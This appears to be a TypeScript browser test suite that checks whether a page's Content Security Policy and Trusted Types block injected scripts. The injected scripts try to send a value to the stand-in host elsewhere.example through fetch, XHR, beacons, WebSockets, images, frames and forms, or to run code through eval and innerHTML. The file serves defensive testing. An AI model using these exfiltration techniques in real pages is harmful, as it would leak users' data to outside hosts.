import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { until } from '../control-plane/until.ts';
import { offlinePageFor } from './offline-page.ts';
import { TestBrowser, type Visit } from './test-browser.ts';

/** What a script that got into the page could do: nothing leaves, because the browser refuses it. */
const browser = new TestBrowser();
const url = offlinePageFor('c2048');
const ELSEWHERE = 'http://elsewhere.example';

/** A script to run in the page, and the violations of the policy that it must cause. */
interface Attempt {
  readonly name: string;
  readonly script: string;
  readonly violations: readonly string[];
}

const ATTEMPTS: readonly Attempt[] = [
  {
    name: 'fetch',
    script: `fetch('${ELSEWHERE}/?value').catch(() => {})`,
    violations: [`connect-src ${ELSEWHERE}/?value`],
  },
  {
    name: 'XMLHttpRequest',
    script: `const request = new XMLHttpRequest(); request.open('POST', '${ELSEWHERE}'); request.send('value')`,
    violations: [`connect-src ${ELSEWHERE}/`],
  },
  {
    name: 'a beacon',
    script: `navigator.sendBeacon('${ELSEWHERE}', 'value')`,
    violations: [`connect-src ${ELSEWHERE}/`],
  },
  {
    name: 'a WebSocket',
    script: `try { new WebSocket('ws://elsewhere.example/?value') } catch {}`,
    violations: ['connect-src ws://elsewhere.example/?value'],
  },
  {
    name: 'an image',
    script: `new Image().src = '${ELSEWHERE}/?value'`,
    violations: [`img-src ${ELSEWHERE}/?value`],
  },
  {
    name: 'a style sheet',
    script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${ELSEWHERE}/?value' }))`,
    violations: [`style-src-elem ${ELSEWHERE}/?value`],
  },
  {
    name: 'a style attribute',
    script: `document.body.setAttribute('style', 'background: url(${ELSEWHERE}/?value)')`,
    violations: ['style-src-attr inline'],
  },
  {
    name: 'a frame',
    script: `document.body.append(Object.assign(document.createElement('iframe'), { src: '${ELSEWHERE}/?value' }))`,
    violations: [`frame-src ${ELSEWHERE}`],
  },
  {
    name: 'a form',
    script: `const form = Object.assign(document.createElement('form'), { action: '${ELSEWHERE}' });
      document.body.append(form); form.submit()`,
    violations: [`form-action ${ELSEWHERE}/?`],
  },
  {
    name: 'another base of addresses',
    script: `document.head.append(Object.assign(document.createElement('base'), { href: '${ELSEWHERE}/' }))`,
    violations: [`base-uri ${ELSEWHERE}/`],
  },
  {
    name: 'eval',
    script: `try { eval('document.title = "run"') } catch {}`,
    violations: ['require-trusted-types-for trusted-types-sink'],
  },
  {
    name: 'an inline script',
    script: `try { document.body.append(Object.assign(document.createElement('script'), { text: 'document.title = "run"' })) } catch {}`,
    violations: ['require-trusted-types-for trusted-types-sink'],
  },
  {
    name: 'an event handler as text',
    script: `try { document.body.setAttribute('onclick', 'document.title = "run"') } catch {}; document.body.click()`,
    violations: ['require-trusted-types-for trusted-types-sink'],
  },
  {
    name: 'markup',
    script: `try { document.body.innerHTML = '<b>value</b>' } catch {}`,
    violations: ['require-trusted-types-for trusted-types-sink'],
  },
  {
    name: 'another policy of Trusted Types',
    script: `try { trustedTypes.createPolicy('other', {}) } catch {}`,
    violations: ['trusted-types trusted-types-policy'],
  },
  {
    name: 'the policy of the page, again',
    script: `try { trustedTypes.createPolicy('sealing-worker', {}) } catch {}`,
    violations: ['trusted-types trusted-types-policy'],
  },
  {
    name: 'another worker',
    script: `try { new Worker(URL.createObjectURL(new Blob([]))) } catch {}`,
    violations: ['require-trusted-types-for trusted-types-sink'],
  },
];

/**
 * Runs a script as the page would: what the debugger evaluates may call `eval`, but not what it schedules. Waits until
 * the page has violated its policy as often as it has to.
 */
async function attempt({ page, record }: Visit, { script, violations }: Attempt): Promise<void> {
  await page.evaluate(`new Promise((resolve) => setTimeout(() => { ${script}; resolve(); }))`);
  await until(
    'the violation',
    () => (record.violations.length >= violations.length ? true : undefined),
    5_000,
  );
}

suite('the policy of the page refuses', () => {
  for (const each of ATTEMPTS) {
    test(each.name, async () => {
      await browser.visit(url, { violations: each.violations }, async (visit) => {
        await attempt(visit, each);
        assert.notEqual(await visit.page.title(), 'run');
      });
    });
  }

  test('fetch in the worker', async () => {
    await browser.visit(url, { violations: [`connect-src ${ELSEWHERE}/?value`] }, async (visit) => {
      const worker = visit.page.workers()[0] ?? (await visit.page.waitForEvent('worker'));
      const script = `fetch('${ELSEWHERE}/?value').then(() => 'sent', () => 'refused')`;
      assert.equal(await worker.evaluate(script), 'refused');
      await until('the violation', () => visit.record.violations[0]);
    });
  });
});
